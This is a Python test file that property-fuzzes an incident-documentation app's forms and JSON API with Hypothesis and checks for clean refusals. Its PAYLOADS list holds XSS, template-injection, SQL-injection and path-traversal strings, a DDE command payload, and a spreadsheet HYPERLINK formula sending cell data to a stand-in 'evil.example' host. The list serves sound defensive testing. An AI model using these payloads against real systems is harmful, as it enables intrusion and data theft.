"""Property-based fuzzing (Hypothesis) of every form and every writing API endpoint.

Hostile input of every kind (random Unicode, control and bidirectional-override characters, NUL,
zero-width characters, oversized fields, malformed dates, markup, SQL and spreadsheet formulas,
wrong JSON types, deep nesting, unknown fields) gets a clear refusal and leaves the database as it
was; what is accepted reads back as the app's documented normalisation of what was sent. A clear
refusal is a 4xx: a JSON error naming each field, or the form again with each error beside its
field. The buttons that post and go back to a page (attach evidence, assess, assign, review, change
a person) refuse by going back with the reason flashed there (Post/Redirect/Get).

Hand-picked cases are in test_hostile_input.py, escaping on every page in test_xss.py, and
schema-driven fuzzing of the API in test_openapi.py.
"""
from __future__ import annotations

import datetime
import html
import io
import json
import os
import re
import unicodedata
from dataclasses import dataclass, replace
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, Phase, event, example, given, settings
from hypothesis import strategies as st

from incidents import geo, vocab, workflow
from incidents.accounts import credentials
from incidents.config import LANGUAGES
from incidents.dossiers.assemble import FORMATS, LAYOUTS, REDACTIONS
from incidents.models import (
    ACQUISITIONS,
    ALL_MODELS,
    ASSESSMENT_OUTCOMES,
    ASSESSMENT_PARTS,
    CONSENTS,
    DATE_PRECISIONS,
    ORIGINALITY,
    PERSON_ROLES,
    ROLES,
    SEXES,
    VERIFICATION_STATUSES,
    Assessment,
    EvidenceItem,
    Facility,
    Incident,
    ReviewEvent,
    User,
)
from incidents.revisions import snapshot
from tests.factories import JPEG, attach_file, incident_data, make_facility, make_incident, move, publish
from tests.helpers import PASSWORD, Browser, bearer_headers


def fuzz(examples: int):
    """Settings for these tests. The app, its users and their records are pytest fixtures, built
    once per test rather than once per example (hence the function_scoped_fixture health check is
    suppressed): every property compares the database before and after its own request, so what an
    earlier example stored never decides a later one. No example database: nothing is written
    into the repository. No shrinking: an example costs several requests, and shrinking a failure
    took Hypothesis over ten minutes; the failing example is reported as found (``pytest -l``
    shows it), to be kept as an @example once understood."""
    return settings(max_examples=examples, deadline=None, database=None,
                    phases=[Phase.explicit, Phase.generate],
                    suppress_health_check=[HealthCheck.function_scoped_fixture])


# ---------------------------------------------------------------------------------------------
# Which endpoints write, and which test feeds each one hostile values
# ---------------------------------------------------------------------------------------------

WRITING_METHODS = {"POST", "PUT", "PATCH", "DELETE"}

FUZZED = {
    "api.incident_create": "test_api_incident_texts",
    "api.incident_update": "test_api_incident_texts",
    "api.incident_transition": "test_api_transition_comments_and_versions",
    "api.facility_create": "test_api_facility",
    "api.evidence_create": "test_api_evidence",
    "api.evidence_assess": "test_api_evidence",
    "api.evidence_confirm_verification": "test_api_verification_confirmation",
    "api.dossier_create": "test_api_dossier_requests",
    "records.new_incident": "test_page_incident_form",
    "records.edit_incident": "test_page_incident_form",
    "records.new_facility": "test_page_facility_form",
    "records.edit_facility": "test_page_facility_form",
    "evidence.upload": "test_page_evidence_forms",
    "evidence.assess": "test_page_evidence_forms",
    "evidence.confirm_verification": "test_page_verification_confirmation",
    "evidence.assign": "test_page_evidence_forms",
    "review.transition": "test_page_review_transition",
    "admin.users": "test_page_admin_forms",
    "admin.update_user": "test_page_admin_forms",
    "dossiers.add": "test_page_dossier_forms",
    "dossiers.remove": "test_page_dossier_forms",
    "dossiers.build": "test_page_dossier_forms",
    "auth.login": "test_page_sign_in_forms",
    "auth.login_code": "test_page_sign_in_forms",
    "auth.set_password": "test_page_sign_in_forms",
    "auth.set_language": "test_page_sign_in_forms",
    "auth.two_factor_confirm": "test_page_sign_in_forms",
    "auth.two_factor_restart": "test_page_sign_in_forms",
    "auth.two_factor_recovery_codes": "test_page_sign_in_forms",
}

# Writing endpoints with no field of their own to fuzz. They still get random fields and forged
# tokens in test_every_page_refuses_forged_posts and test_every_api_write_survives_any_body.
EXEMPT = {
    # A button: its only field is the CSRF token.
    "auth.logout": "button without fields",
    # A button: its only field is the CSRF token; the token it shows is made by the app.
    "auth.new_token": "button without fields",
    # A button: its only field is the CSRF token; it empties the selection kept in the session.
    "dossiers.clear": "button without fields",
}


def writing_rules(app):
    return [rule for rule in app.url_map.iter_rules() if rule.methods & WRITING_METHODS]


def test_every_writing_endpoint_is_fuzzed_or_exempt(app):
    endpoints = {rule.endpoint for rule in writing_rules(app)}
    assert not set(FUZZED) & set(EXEMPT)
    assert endpoints - set(FUZZED) - set(EXEMPT) == set(), "a new writing endpoint: fuzz it, or say why not"
    assert set(FUZZED) | set(EXEMPT) <= endpoints, "a listed endpoint is gone: update the lists"
    assert all(callable(globals().get(name)) for name in FUZZED.values())


# ---------------------------------------------------------------------------------------------
# What the app promises about text, written out here rather than imported, so that loosening the
# app's rules fails these tests (incidents/validation.py clean_text, incidents/text.py):
# - "\r\n" becomes "\n", the text is NFC-normalised and surrounding whitespace is stripped;
# - what remains may hold no C0 or C1 control character (tab and line breaks aside), no DEL, no
#   bidirectional embedding, override or isolate (U+202A-U+202E, U+2066-U+2069) and no lone
#   surrogate: such text is refused with a message, never silently cleaned;
# - a one-line field refuses line breaks (CR or LF) and tabs as well;
# - a length limit counts characters after normalisation.
# Zero-width characters and direction marks (U+200B-U+200F, U+2060, U+FEFF, U+061C) are kept:
# Persian needs the zero-width non-joiner, and a mark cannot reorder text as an override can.
# ---------------------------------------------------------------------------------------------

FORBIDDEN = frozenset(chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20),
                                       *range(0x7F, 0xA0), *range(0x202A, 0x202F),
                                       *range(0x2066, 0x206A), *range(0xD800, 0xE000)))
CONTROL_MESSAGE = "Contains control characters"
TOO_LONG = "Too long"
MAX_TEXT = 20_000  # Settings.MAX_TEXT_LENGTH, which the app fixture keeps


def normalised(text: str) -> str:
    return unicodedata.normalize("NFC", text.replace("\r\n", "\n")).strip()


@dataclass(frozen=True)
class Text:
    """A text field: where it sits in a JSON body, its form field, its error key and its rules."""

    path: tuple
    form: str
    key: str
    max_length: int = 300
    multiline: bool = False
    required: str = ""  # the message a blank value gets, when it is required

    def problem(self, value: str) -> str | None:
        """The message the app must refuse ``value`` with, or None when it must accept it."""
        text = normalised(value)
        if any(c in FORBIDDEN for c in text) or (not self.multiline and any(c in "\r\n\t" for c in text)):
            return CONTROL_MESSAGE
        if len(text) > self.max_length:
            return TOO_LONG
        if self.required and not text:
            return self.required
        return None


def get_path(data, path):
    """The value at ``path``; "" for a text that is absent (an empty translation is dropped)."""
    for step in path:
        try:
            data = data[step]
        except (KeyError, IndexError):
            return ""
    return data


def set_path(data, path, value):
    for step in path[:-1]:
        data = data[step]
    data[path[-1]] = value


REQUIRED_IN_ORIGINAL = {"title": "A title in the original language is required.",
                        "narrative": "A narrative in the original language is required."}
INCIDENT_TEXTS = {text.form: text for text in [
    Text(("title", "ru"), "title_ru", "title", required=REQUIRED_IN_ORIGINAL["title"]),  # Russian is the original
    Text(("title", "en"), "title_en", "title"),
    Text(("narrative", "ru"), "narrative_ru", "narrative", MAX_TEXT, True, REQUIRED_IN_ORIGINAL["narrative"]),
    Text(("narrative", "uk"), "narrative_uk", "narrative", MAX_TEXT, True),
    Text(("persons", 0, "pseudonym"), "persons-0-pseudonym", "persons-0-pseudonym",
         required="This field is required."),
    Text(("persons", 0, "legal_name"), "persons-0-legal_name", "persons-0-legal_name"),
    Text(("persons", 0, "contact"), "persons-0-contact", "persons-0-contact", 2000, True),
    Text(("responses", 0, "body"), "responses-0-body", "responses-0-body"),
    Text(("responses", 0, "description"), "responses-0-description", "responses-0-description", 5000, True),
    Text(("evidence", 0, "description"), "evidence-0-description", "evidence-0-description", 2000, True),
]}

FACILITY_TEXTS = {text.form: text for text in [
    Text(("names", "en"), "name_en", "names"),
    Text(("names", "uk"), "name_uk", "names"),
    Text(("locality",), "locality", "locality"),
    Text(("authority",), "authority", "authority"),
    Text(("notes",), "notes", "notes", 5000, True),
]}

# ---------------------------------------------------------------------------------------------
# Strategies
# ---------------------------------------------------------------------------------------------

BIDI = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u061c"]
CONTROLS = [chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))]
LINE_BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029"]
PAYLOADS = [
    '<script>alert("x")</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "<svg/onload=alert(1)>", "{{ 7*7 }}", "${7*7}", "</textarea><b>",
    "'; DROP TABLE incident;--", "1 OR 1=1", "' OR '1'='1", '" OR ""="', "1; SELECT * FROM user --",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    "=1+1", "\t=1", "\r=1", "%00", "../../etc/passwd", "C:\\Windows\\win.ini",
    "Саратов", "ОТБ-1", "e\u0301", "\u0301", "😀", "\ufffd",
]


def hostile_text(surrogates: bool = False):
    """Text built of random characters, payloads, controls, bidi and zero-width characters.

    Lone surrogates only where the transport carries them: JSON escapes them ("\\ud800"), while
    a form is UTF-8 on the wire, which cannot encode them.
    """
    alphabet = st.characters() if surrogates else st.characters(exclude_categories=["Cs"])
    piece = st.one_of(st.text(alphabet, max_size=12), st.sampled_from(PAYLOADS),
                      st.sampled_from(BIDI + ZERO_WIDTH + CONTROLS + LINE_BREAKS))
    return st.lists(piece, max_size=5).map("".join)


def near_limit(limit: int):
    """Text about as long as a field allows: just under, at and just over, with something at the
    end (a combining accent counts once NFC has composed it; blanks vanish when stripped)."""
    return st.builds(lambda unit, count, tail: unit * count + tail,
                     st.sampled_from(["a", "я", "😀", "e\u0301", " "]),
                     st.integers(max(limit - 2, 0), limit + 2), st.sampled_from(["", "\x00", "\u202e", " ", "x"]))


def text_for(spec: Text, surrogates: bool = False):
    return st.one_of(hostile_text(surrogates), near_limit(spec.max_length))


@st.composite
def text_changes(draw, specs: dict, surrogates: bool = False, min_size: int = 1):
    """Up to three fields, each with a hostile value: [(form field name, value), ...]."""
    names = draw(st.lists(st.sampled_from(sorted(specs)), min_size=min_size, max_size=3, unique=True))
    return [(name, draw(text_for(specs[name], surrogates))) for name in names]


# JSON values of every type, nested, for fields that expect something else.
json_scalars = st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70),
                         st.floats(allow_nan=False, allow_infinity=False), hostile_text(surrogates=True))
json_values = st.recursive(json_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(hostile_text(surrogates=True), inner, max_size=4)), max_leaves=12)


def deeply_nested(depth: int, kind: str) -> str:
    """A JSON document nested ``depth`` levels deep, as text (building it in Python would recurse)."""
    opening, closing = ("[", "]") if kind == "list" else ('{"a":', "}")
    return opening * depth + "1" + closing * depth


MALFORMED_DATES = [
    "2020-13-45", "0000-00-00", "99999-01-01", "yesterday", "2020-02-30", "2021-02-29", "2020-00-10",
    "2020-01-00", "2020-03-15T10:00:00+03:00", "2020-03-15T10:00:00Z", "2020-03-15 10:00", "2020/03/15",
    "15/03/2020", "31.02.2020", "2020-3-15-1", "9999-12-31", "2020-W01-8",
    "2020-03-15\x00", "\u202e2020-03-15", "-2020-01-01", "+2020-01-01", "2020-1e1-01", "2020-03-15 x",
]

# ---------------------------------------------------------------------------------------------
# The database before and after a request
# ---------------------------------------------------------------------------------------------

# Rows that a refused request may still add, and why:
# - AuditEvent for reads ("incident.view_confidential", "evidence.view_confidential", ...): every
#   read of confidential fields is audited, and an edit page shown again with its errors, the page
#   a refused button leads back to, or the API reading an incident before a PATCH reads them.
# - LoginFailure: counting wrong passwords and codes is how sign-in is throttled.
def is_a_read(action: str) -> bool:
    return action.partition(".")[2].startswith("view")


def db_state() -> dict:
    return {model.__name__: list(model.select().order_by(*model._meta.get_primary_keys()).dicts())
            for model in ALL_MODELS}


def revisions_of(incident_id: int, state: dict) -> int:
    return sum(row["incident"] == incident_id for row in state["Revision"])


def tally(what: str, accepted: bool) -> None:
    """For ``pytest --hypothesis-show-statistics``: how often each request was taken or refused
    (a property that only ever saw one of the two would prove little)."""
    event(f"{what}: {'accepted' if accepted else 'refused'}")


def assert_unchanged(before: dict, *, login_failures: bool = False) -> None:
    """Nothing stored half-way: every table as it was, bookkeeping of the request itself aside."""
    after = db_state()
    for name, rows in before.items():
        if after[name] == rows:
            continue
        added = after[name][len(rows):]
        assert after[name][:len(rows)] == rows, f"{name}: rows changed or vanished"
        if name == "AuditEvent":
            assert all(is_a_read(row["action"]) for row in added), f"audited: {[r['action'] for r in added]}"
        else:
            assert name == "LoginFailure" and login_failures, f"{name}: {len(added)} rows added"


def api_refusal(response, expected: dict | None = None, *, unreadable: bool = False) -> None:
    """A clear refusal: 4xx with a JSON error message, and each expected field's message; or, for
    a body nested past what the JSON parser reads (``unreadable``), a 400 for the whole body."""
    assert 400 <= response.status_code < 500, (response.status_code, response.get_data(as_text=True)[:500])
    error = response.get_json()["error"]
    assert error["message"] and error["code"]
    if unreadable and response.status_code == 400:
        return
    for key, messages in (expected or {}).items():
        shown = error["fields"].get(key, [])
        assert any(m in s for m in messages for s in shown), (key, messages, error["fields"])


ERROR_TEXT = re.compile(r'<p class="error"[^>]*>(.*?)</p>|<p class="flash error"[^>]*>(.*?)</p>'
                        r'|<div class="flash error"[^>]*>\s*<p>(.*?)</p>|class="narrow error-page">\s*<h1>(.*?)</h1>',
                        re.S)


def page_errors(response) -> str:
    """Every error message a page shows (form errors, flashed errors, an error page's heading)."""
    found = ERROR_TEXT.findall(response.get_data(as_text=True))
    return "\n".join(html.unescape(part) for parts in found for part in parts if part)


def page_refusal(response, expected: dict | None = None) -> None:
    """A clear refusal on a page: 4xx, each expected field's error shown beside it (the form's
    macro gives it the id "<key>-error") with one of the expected messages."""
    assert 400 <= response.status_code < 500, (response.status_code, page_errors(response))
    shown, page = page_errors(response), response.get_data(as_text=True)
    assert shown, page[:2000]
    for key, messages in (expected or {}).items():
        assert f'id="{key}-error"' in page, (key, shown)
        assert any(m in shown for m in messages), (key, messages, shown)


def flashed_refusal(browser, response, messages=("",)) -> None:
    """A button's form refuses by sending the browser back to the page it came from, with the
    reason flashed there (Post/Redirect/Get); or, for a request no page sends, with a 4xx."""
    if 400 <= response.status_code < 500:
        assert page_errors(response)
        return
    assert response.status_code in (302, 303), response.status_code
    shown = page_errors(browser.client.get(response.headers["Location"]))
    assert shown and any(m in shown for m in messages), (messages, shown)


def off_site(location: str) -> bool:
    """Whether a redirect leaves the site, as a browser reads it: tabs and line breaks dropped,
    and a path starting "//" or "/\\" naming another host."""
    location = re.sub(r"[\t\r\n]", "", location)
    return not location.startswith(("/", "http://localhost/")) or location.startswith(("//", "/\\"))


@dataclass(frozen=True)
class Nested:
    """A JSON list nested ``depth`` levels deep, for a body to hold (see send_json)."""

    depth: int


def send_json(client, method: str, path: str, body, headers: dict):
    """``body`` as JSON text: json.dumps escapes lone surrogates, as any JSON client may send them,
    and each Nested value is written out as text (json.dumps would recurse as deeply)."""
    nested = []
    text = json.dumps(body, default=lambda value: nested.append(value.depth) or f"\0nested {len(nested)}")
    for number, depth in enumerate(nested, 1):
        text = text.replace(f'"\\u0000nested {number}"', deeply_nested(depth, "list"), 1)
    return client.open(path, method=method, data=text, content_type="application/json", headers=headers)


def problems_of(changes, specs) -> dict:
    """{error key: {messages the app must show}} for the changes it must refuse."""
    expected: dict = {}
    for name, value in changes:
        problem = specs[name].problem(value)
        if problem:
            expected.setdefault(specs[name].key, set()).add(problem)
    return expected


def assert_reads_back(data: dict, changes, specs) -> None:
    for name, value in changes:
        assert get_path(data, specs[name].path) == normalised(value), name


# ---------------------------------------------------------------------------------------------
# Fixtures
# ---------------------------------------------------------------------------------------------

RESPONSE_ROW = {"kind": "inquiry", "date": "2021-01-01", "body": "Prosecutor's office",
                "description": "An inquiry was opened."}


@pytest.fixture
def world(app, users):
    """A facility, an incident in draft by the contributor with a file attached, API tokens, and
    signed-in browsers on demand."""
    assert app.config["SETTINGS"].MAX_TEXT_LENGTH == MAX_TEXT
    facility = make_facility(users["contributor"])
    incident = make_incident(users["contributor"], facility, responses=[dict(RESPONSE_ROW)])

    signed_in = {}

    def browser(role):
        """A browser signed in as ``role`` and a CSRF token for its session, once per test."""
        if role not in signed_in:
            new = Browser(app)
            assert new.login(users[role]).status_code == 302
            signed_in[role] = (new, new.csrf_token("/"))
        return signed_in[role]

    def pending_sign_in():
        """A browser halfway through signing in, between the password and the code."""
        if "pending" not in signed_in:
            pending = Browser(app)
            response = pending.client.post("/login", data={"email": users["lawyer"].email, "password": PASSWORD,
                                                           "csrf_token": pending.csrf_token("/login")})
            assert response.headers["Location"].endswith("/login/code")
            signed_in["pending"] = (pending, pending.csrf_token("/login/code"))
        return signed_in["pending"]

    return SimpleNamespace(
        app=app, users=users, facility=facility, incident=incident, client=app.test_client(),
        item=attach_file(app, incident, users["contributor"]),
        published=None,  # an incident's id, published on first use: publishing takes a while
        browser=browser, pending_sign_in=pending_sign_in,
        tokens={role: bearer_headers(users[role])
                for role in ("contributor", "reviewer", "lawyer", "admin")})


# ---------------------------------------------------------------------------------------------
# The JSON API
# ---------------------------------------------------------------------------------------------

@fuzz(40)
@given(changes=text_changes(INCIDENT_TEXTS, surrogates=True))
@example(changes=[("title_ru", "Пытки\ud800")])  # a lone surrogate reached the database: a 500
@example(changes=[("narrative_ru", "я" * 1_100_000)])  # past MAX_CONTENT_LENGTH: 413 before parsing
@example(changes=[("persons-0-pseudonym", "Prisoner\rS.")])  # a carriage return in a one-line field was stored
@example(changes=[("title_en", "Torture\nin the hospital")])  # titles took line breaks: their form field cannot
def test_api_incident_texts(world, changes):
    """Creating and editing an incident through the API, with hostile texts in any field; the
    answers' bodies are the records as read back from the database after the save."""
    client, headers = world.client, world.tokens["contributor"]
    expected = problems_of(changes, INCIDENT_TEXTS)

    body = incident_data(world.facility, responses=[dict(RESPONSE_ROW)])
    for name, value in changes:
        set_path(body, INCIDENT_TEXTS[name].path, value)
    before = db_state()
    created = send_json(client, "POST", "/api/v1/incidents", body, headers)
    tally("create", not expected)
    if expected:
        api_refusal(created, expected if created.status_code != 413 else None)
        assert_unchanged(before)
    else:
        assert created.status_code == 201, created.get_json()
        assert_reads_back(created.get_json(), changes, INCIDENT_TEXTS)

    current = Incident.get_by_id(world.incident.id)
    patch = {"version": current.version}
    for name, value in changes:
        top = INCIDENT_TEXTS[name].path[0]
        patch.setdefault(top, snapshot(current)[top])
        set_path(patch, INCIDENT_TEXTS[name].path, value)
    before = db_state()
    patched = send_json(client, "PATCH", f"/api/v1/incidents/{current.id}", patch, headers)
    if expected:
        api_refusal(patched, expected if patched.status_code != 413 else None)
        assert_unchanged(before)
    else:
        assert patched.status_code == 200, patched.get_json()
        assert patched.get_json()["version"] == current.version + 1
        assert current.revisions.count() == revisions_of(current.id, before) + 1
        assert_reads_back(patched.get_json(), changes, INCIDENT_TEXTS)


def readable_int(value) -> bool:
    try:
        int(str(value).strip())
    except ValueError:
        return False
    return True


any_number = st.one_of(st.booleans(), st.integers(-2**70, 2**70), st.floats())
any_list = st.lists(json_values, max_size=3)
any_object = st.dictionaries(st.text(max_size=5), json_values, max_size=3)
not_text = st.one_of(any_number, any_list, any_object, st.builds(Nested, st.integers(2, 5000)))
not_a_count = st.one_of(st.booleans(), st.floats(), any_list, any_object, st.integers(max_value=-1),
                        st.integers(min_value=1_000_001),
                        hostile_text().filter(lambda s: s != "" and not readable_int(s)))
rows_of_nothing = st.lists(st.one_of(any_number, any_list), min_size=1, max_size=3)  # not objects
# Values each field must refuse, whatever else the body holds: types it never takes, and for
# lists and ids, content of the right type that still names nothing. (null and "" are left out
# where they mean "none", which an optional field accepts.)
WRONG_TYPES = {
    ("facility",): st.one_of(st.none(), st.booleans(), st.floats(), st.integers(max_value=0),
                             st.integers(min_value=2**31), any_list, any_object, st.sampled_from(["²", "0", "9" * 5000]),
                             hostile_text().filter(lambda s: not s.isdecimal())),
    ("title",): st.one_of(st.none(), any_number, any_list, hostile_text(surrogates=True)),
    ("narrative",): st.one_of(st.none(), any_number, any_list, hostile_text(surrogates=True)),
    ("title", "ru"): st.one_of(st.none(), not_text),
    ("abuse",): st.one_of(st.none(), any_number, any_object, hostile_text(), st.lists(json_values, max_size=3)),
    ("perpetrators",): st.one_of(any_number, any_object, hostile_text().filter(bool), rows_of_nothing),
    ("date_start",): st.one_of(st.none(), not_text),
    ("date_end",): not_text,
    ("date_precision",): not_text,
    ("original_language",): not_text,
    ("victims_count",): not_a_count,
    ("violation_status",): not_text,
    ("graphic",): st.one_of(st.integers(), st.floats(), hostile_text(), any_list, any_object),
    ("persons",): st.one_of(any_number, any_object, hostile_text().filter(bool), rows_of_nothing),
    ("responses",): st.one_of(any_number, rows_of_nothing),
    ("evidence",): st.one_of(any_object, rows_of_nothing),
    ("persons", 0, "pseudonym"): st.one_of(st.none(), not_text),
    ("persons", 0, "age"): not_a_count,
    ("persons", 0, "role"): not_text,
    ("responses", 0, "date"): not_text,
    ("responses", 0, "kind"): st.one_of(st.none(), not_text),
    ("evidence", 0, "url"): st.one_of(st.none(), not_text),
    ("evidence", 0, "confidential"): st.one_of(st.integers(), st.floats(), hostile_text(), any_list),
}
wrong_values = st.sampled_from(sorted(WRONG_TYPES, key=str)).flatmap(
    lambda path: st.tuples(st.just(path), WRONG_TYPES[path]))
# Fields the API reads (WRITABLE_FIELDS), and those a PATCH may carry back from a GET.
KNOWN_FIELDS = {"facility", "date_start", "date_end", "date_precision", "original_language", "title",
                "narrative", "abuse", "perpetrators", "victims_count", "violation_status", "graphic",
                "persons", "responses", "evidence", "version", "id", "reference", "status", "url", "actions"}
unknown_fields = st.dictionaries(hostile_text(surrogates=True).filter(lambda k: k not in KNOWN_FIELDS),
                                 json_values, max_size=3)


LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def as_sent(text: str) -> str:
    """``text`` as an answer quotes it: UTF-8 cannot carry a lone surrogate, U+FFFD stands in."""
    return LONE_SURROGATE.sub("\ufffd", text)


def error_key(path: tuple) -> str:
    return path[0] if path[0] == "title" else "-".join(map(str, path))


def content(data: dict) -> dict:
    """An incident's snapshot without what tells two records apart (reference, row ids), and
    without preserved files, which are attached on their own."""
    return {key: [{k: v for k, v in row.items() if k != "id"} for row in value if "sha256" not in row]
            if isinstance(value, list) and value and isinstance(value[0], dict) else value
            for key, value in data.items() if key != "reference"}


@fuzz(40)
@given(wrong=wrong_values, extra=unknown_fields)
@example(wrong=(("facility",), "²"), extra={})  # a digit that int() cannot read: was a 500
@example(wrong=(("facility",), "9" * 5000), extra={})  # more digits than int() reads: was a 500
@example(wrong=(("graphic",), "yes"), extra={"\ud800": 1})  # the answer quoted a lone surrogate: was a 500
def test_api_wrong_types_and_unknown_fields(world, wrong, extra):
    """Numbers, lists, objects and null where something else belongs are refused with the field
    named; unknown fields are ignored on creation and refused, named, in an edit."""
    client, headers = world.client, world.tokens["contributor"]
    path, value = wrong
    body = incident_data(world.facility, responses=[dict(RESPONSE_ROW)])
    set_path(body, path, value)
    before = db_state()
    unreadable = isinstance(value, Nested)
    api_refusal(send_json(client, "POST", "/api/v1/incidents", {**body, **extra}, headers),
                {error_key(path): [""]}, unreadable=unreadable)
    assert_unchanged(before)

    patch = {"version": world.incident.version, path[0]: body[path[0]], **extra}
    api_refusal(send_json(client, "PATCH", f"/api/v1/incidents/{world.incident.id}", patch, headers),
                {as_sent(key): [""] for key in extra} if extra else {error_key(path): [""]}, unreadable=unreadable)
    assert_unchanged(before)

    if extra:
        body = {**incident_data(world.facility, responses=[dict(RESPONSE_ROW)]), **extra}
        response = send_json(client, "POST", "/api/v1/incidents", body, headers)
        assert response.status_code == 201, response.get_json()
        assert content(snapshot(Incident.get_by_id(response.get_json()["id"]))) == content(snapshot(world.incident))


def written_forms(day: datetime.date) -> list[str]:
    """The ways an incident's date may be written for a day (a response's date: the first only)."""
    return [day.isoformat(), f"{day.year}-{day.month}-{day.day}", f"{day:%d.%m.%Y}", f"{day.day}.{day.month}.{day.year}"]


past_days = st.dates(min_value=datetime.date(1900, 1, 1), max_value=datetime.date.today())
malformed_dates = st.one_of(
    st.sampled_from(MALFORMED_DATES),
    st.builds("{:04d}-{:02d}-{:02d}".format, st.integers(1900, 2020), st.integers(13, 99), st.integers(1, 28)),
    st.builds("{:04d}-{:02d}-{:02d}".format, st.integers(1900, 2020), st.integers(1, 12), st.integers(32, 99)),
    st.builds("{}-01-01".format, st.integers(10_000, 10**9)),
    st.builds(datetime.date.isoformat, st.dates(min_value=datetime.date.today() + datetime.timedelta(days=1))),
    st.builds(lambda day, zone: day.isoformat() + zone, past_days,
              st.sampled_from(["T00:00", "Z", "+03:00", "T12:00:00-05:00"])),
    hostile_text().filter(lambda s: s.strip() and not re.search(r"\d", s)),
)


def date_cases(iso_only: bool, before_1900: bool = False):
    """(the day, as written) for a real past day, or (None, text) for text that is no such day.

    An incident's dates start in 1900; an evidence item's may be older (a scan of an old photo).
    """
    written = past_days.flatmap(lambda day: st.tuples(
        st.just(day), st.sampled_from(written_forms(day)[:1 if iso_only else None])))
    early = st.tuples(st.none(), st.sampled_from(["1899-12-31", "0001-01-01"]))
    return st.one_of(written, st.tuples(st.none(), malformed_dates), *([] if before_1900 else [early]))


DATE_FIELDS = {"date_start": ("date_start",), "date_end": ("date_end",), "responses-0-date": ("responses", 0, "date")}


@fuzz(40)
@given(case=st.sampled_from(sorted(DATE_FIELDS)).flatmap(
    lambda key: st.tuples(st.just(key), date_cases(iso_only=key.startswith("responses")))))
@example(case=("date_start", (None, "2020-13-45")))
@example(case=("responses-0-date", (None, "2020-03-15T10:00:00+03:00")))
def test_api_dates(world, case):
    """Malformed, impossible, future and time-zoned dates are refused; real ones, written in the
    forms the field accepts, are stored as that day."""
    key, (day, text) = case
    body = incident_data(world.facility, date_precision="day", date_start="1900-01-01",
                         responses=[dict(RESPONSE_ROW)])
    set_path(body, DATE_FIELDS[key], text)
    before = db_state()
    response = send_json(world.client, "POST", "/api/v1/incidents", body, world.tokens["contributor"])
    tally(key, day is not None)
    if day is None:
        api_refusal(response, {key: [""]})
        assert_unchanged(before)
    else:
        assert response.status_code == 201, (text, response.get_json())
        assert get_path(response.get_json(), DATE_FIELDS[key]) == day.isoformat()


coordinates = st.one_of(st.none(), st.just(""), st.floats(), st.integers(-400, 400), st.booleans(),
                        st.builds(str, st.floats()), st.sampled_from(["45", " 45 ", "4_5", "NaN", "1e400", "٤٥"]),
                        hostile_text(), any_list)


def coordinate(value, limit: int):
    """(given, acceptable, as stored) under the documented rule: a number from -limit to limit."""
    if value is None or value == "":
        return False, True, None
    try:
        number = float(value)
    except (TypeError, ValueError, OverflowError):
        return True, False, None
    acceptable = not isinstance(value, bool) and abs(number) <= limit  # NaN compares false
    return True, acceptable, number


@fuzz(40)
@given(changes=text_changes(FACILITY_TEXTS, surrogates=True),
       aliases=st.lists(hostile_text(surrogates=True), max_size=52), latitude=coordinates, longitude=coordinates,
       region=st.one_of(st.just("RU-SAR"), st.just("ru-sar "), st.just("UA-65"), hostile_text()))
@example(changes=[("name_en", "IK-1\tSaratov")], aliases=[], latitude=None, longitude=None,
         region="RU-SAR")  # names took line breaks and tabs, which their form field cannot hold
def test_api_facility(world, changes, aliases, latitude, longitude, region):
    """A facility with hostile names, aliases, coordinates and region: refused with each field
    named, or stored as normalised."""
    client, headers = world.client, world.tokens["contributor"]
    body = {"names": {"en": "IK-1"}, "type": "penal_colony", "country": "RU", "region": region,
            "aliases": aliases, "latitude": latitude, "longitude": longitude}
    for name, value in changes:
        set_path(body, FACILITY_TEXTS[name].path, value)
    expected = problems_of(changes, FACILITY_TEXTS)
    if not any(map(normalised, body["names"].values())) and "names" not in expected:
        expected["names"] = {"Give the facility's name in at least one language."}
    alias = Text(("aliases",), "aliases", "aliases")
    if len(aliases) > 50 or any(alias.problem(a) for a in aliases):
        expected["aliases"] = {""}
    (lat_given, lat_ok, lat), (lon_given, lon_ok, lon) = coordinate(latitude, 90), coordinate(longitude, 180)
    if not lat_ok:
        expected["latitude"] = {""}
    if not lon_ok or (lat_ok and lon_ok and lat_given != lon_given):
        expected["longitude"] = {""}
    if region and region.strip().upper() != "RU-SAR":
        expected["region"] = {"Choose a region of the chosen country."}
    before = db_state()
    response = send_json(client, "POST", "/api/v1/facilities", body, headers)
    tally("facility", not expected)
    if expected:
        api_refusal(response, expected)
        assert_unchanged(before)
        return
    assert response.status_code == 201, response.get_json()
    stored = Facility.get_by_id(response.get_json()["id"])
    assert_reads_back({"names": stored.names, "locality": stored.locality, "authority": stored.authority,
                       "notes": stored.notes}, changes, FACILITY_TEXTS)
    assert stored.aliases == list(dict.fromkeys(n for n in map(normalised, aliases) if n))
    assert (stored.latitude, stored.longitude, stored.region) == (lat, lon, region.strip().upper() or None)


EVIDENCE_TEXTS = {text.form: text for text in [
    Text(("description",), "description", "description", 2000, True),
    Text(("source",), "source", "source", 2000, True),
    Text(("original_location",), "original_location", "original_location", 2000),
    Text(("captured_place",), "captured_place", "captured_place"),
]}
URL = Text(("url",), "url", "link-url", 2000, required="This field is required.")
urls = st.one_of(
    hostile_text(surrogates=True),
    st.builds("{}{}/{}".format,
              st.sampled_from(["https://", "http://", "HTTPS://", "ftp://", "javascript:", "data:text/html,",
                               "file://", "//", ""]),
              st.sampled_from(["example.org", "[::1", "[::1]", "", "пример.рф", "a" * 2100, "exa mple.org"]),
              hostile_text(surrogates=True)))


def url_problem(value: str) -> str | None:
    """The documented rule: a one-line text of at most 2,000 characters, http or https, a host."""
    problem = URL.problem(value)
    if problem:
        return problem
    try:
        parts = urlsplit(normalised(value))
        acceptable = parts.scheme.lower() in ("http", "https") and bool(parts.hostname)
    except ValueError:
        acceptable = False
